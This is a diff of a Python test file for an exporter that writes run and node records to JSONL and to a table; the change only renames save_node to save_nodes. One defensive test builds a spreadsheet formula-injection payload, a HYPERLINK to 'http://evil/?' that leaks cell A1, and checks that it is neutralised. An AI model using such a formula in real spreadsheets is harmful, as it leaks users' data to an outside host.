@@ -43,8 +43,8 @@ def node_with(index: int = 0, fault: Any = "none", error: str | None = None, **r
 
 def test_each_attempt_is_a_line_with_the_facts_of_run_and_node_and_every_key(store: Store, make_run, make_node) -> None:
     store.save_run(make_run())
-    store.save_node("run-1", make_node(0, attempts=2))
-    store.save_node("run-1", make_node(1, attempts=1, passed=False))
+    store.save_nodes("run-1", [make_node(0, attempts=2)])
+    store.save_nodes("run-1", [make_node(1, attempts=1, passed=False)])
     lines = jsonl(store)
     assert [(line["node_index"], line["position"], line["attempt_num"]) for line in lines] == [
         (0, 0, 0),
@@ -68,9 +68,9 @@ def test_the_own_keys_of_a_result_are_on_every_line(store: Store, make_run) -> N
     for index, trail in enumerate(trails):
         result = ChallengeResults(success=True, data_trail=trail, **own)
         request = NodeRequest(index, f"a|easy|{index}", ("a",), "easy", 1)
-        store.save_node("run-1", NodeRecord(NodeOutcome(request, result)))
-    store.save_node("run-1", node_with(2, result="a record's own"))
-    store.save_node("run-1", node_with(3, error="it broke"))
+        store.save_nodes("run-1", [NodeRecord(NodeOutcome(request, result))])
+    store.save_nodes("run-1", [node_with(2, result="a record's own")])
+    store.save_nodes("run-1", [node_with(3, error="it broke")])
     expected = {"data": {"a": 1, "ratio": None}, "odd": [1]}
     assert [line["result"] for line in jsonl(store)] == [expected, expected, expected, {}, None]
     cells = [row["result"] for row in table(store)]
@@ -80,7 +80,7 @@ def test_the_own_keys_of_a_result_are_on_every_line(store: Store, make_run) -> N
 
 def test_a_node_that_failed_without_an_attempt_does_not_vanish(store: Store, make_run) -> None:
     store.save_run(make_run())
-    store.save_node("run-1", node_with(error="it broke", fault="environment"))
+    store.save_nodes("run-1", [node_with(error="it broke", fault="environment")])
     (line,) = jsonl(store)
     assert (line["node_error"], line["node_fault"], line["position"]) == ("it broke", "environment", None)
     (row,) = table(store)
@@ -89,14 +89,14 @@ def test_a_node_that_failed_without_an_attempt_does_not_vanish(store: Store, mak
 
 def test_a_key_of_the_environment_never_replaces_a_fact(store: Store, make_run) -> None:
     store.save_run(make_run())
-    store.save_node("run-1", node_with(run_id="forged", position="forged", node_success=True))
+    store.save_nodes("run-1", [node_with(run_id="forged", position="forged", node_success=True)])
     (line,) = jsonl(store)
     assert (line["run_id"], line["position"], line["node_success"]) == ("run-1", 0, False)
 
 
 def test_the_table_has_the_documented_columns_and_the_verdict_spread_out(store: Store, make_run, make_node) -> None:
     store.save_run(make_run())
-    store.save_node("run-1", make_node(0, attempts=1, passed=False))
+    store.save_nodes("run-1", [make_node(0, attempts=1, passed=False)])
     (row,) = table(store)
     assert tuple(row) == COLUMNS
     assert {f"verdict_{key}" for key in Verdict.model_fields} | set(TrailRecord.model_fields) - {"verdict"} <= set(
@@ -115,7 +115,7 @@ def test_the_table_has_the_documented_columns_and_the_verdict_spread_out(store: 
 def test_no_cell_is_a_formula(store: Store, make_run, start: str) -> None:
     attack = f'{start}HYPERLINK("http://evil/?"&A1)'
     store.save_run(make_run(name=attack))
-    store.save_node("run-1", node_with(solution_code=attack, output=attack, seed=-5))
+    store.save_nodes("run-1", [node_with(solution_code=attack, output=attack, seed=-5)])
     (row,) = table(store)
     assert row["solution_code"] == row["output"] == row["run_name"] == f"'{attack}"
     assert row["seed"] == "-5"
@@ -126,7 +126,7 @@ def test_no_cell_is_a_formula(store: Store, make_run, start: str) -> None:
 def test_hostile_text_cannot_break_a_line(store: Store, make_run) -> None:
     store.save_run(make_run())
     hostile = 'a\r\nb"c,d\u2028e\x00f'
-    store.save_node("run-1", node_with(output=hostile, extra="lone \ud800", number=float("nan")))
+    store.save_nodes("run-1", [node_with(output=hostile, extra="lone \ud800", number=float("nan"))])
     (line,) = jsonl(store)
     assert (line["output"], line["number"]) == (hostile, None)
     (row,) = table(store)
@@ -139,7 +139,7 @@ def test_hostile_text_cannot_break_a_line(store: Store, make_run) -> None:
 def test_an_export_holds_one_page_of_nodes_at_a_time(store: Store, make_run, make_node) -> None:
     store.save_run(make_run())
     for index in range(230):
-        store.save_node("run-1", make_node(index, attempts=1))
+        store.save_nodes("run-1", [make_node(index, attempts=1)])
 
     class Stopping(io.StringIO):
         def write(self, text: str) -> int:
@@ -162,7 +162,7 @@ def test_an_unknown_run_is_named_before_anything_is_written(store: Store, make_r
 
 def test_the_beginning_of_an_id_is_enough(store: Store, make_run, make_node) -> None:
     store.save_run(make_run("run-abc"))
-    store.save_node("run-abc", make_node(0, attempts=1))
+    store.save_nodes("run-abc", [make_node(0, attempts=1)])
     (line,) = jsonl(store, "run-a")
     facts: Mapping[str, Any] = line
     assert facts["run_id"] == "run-abc"
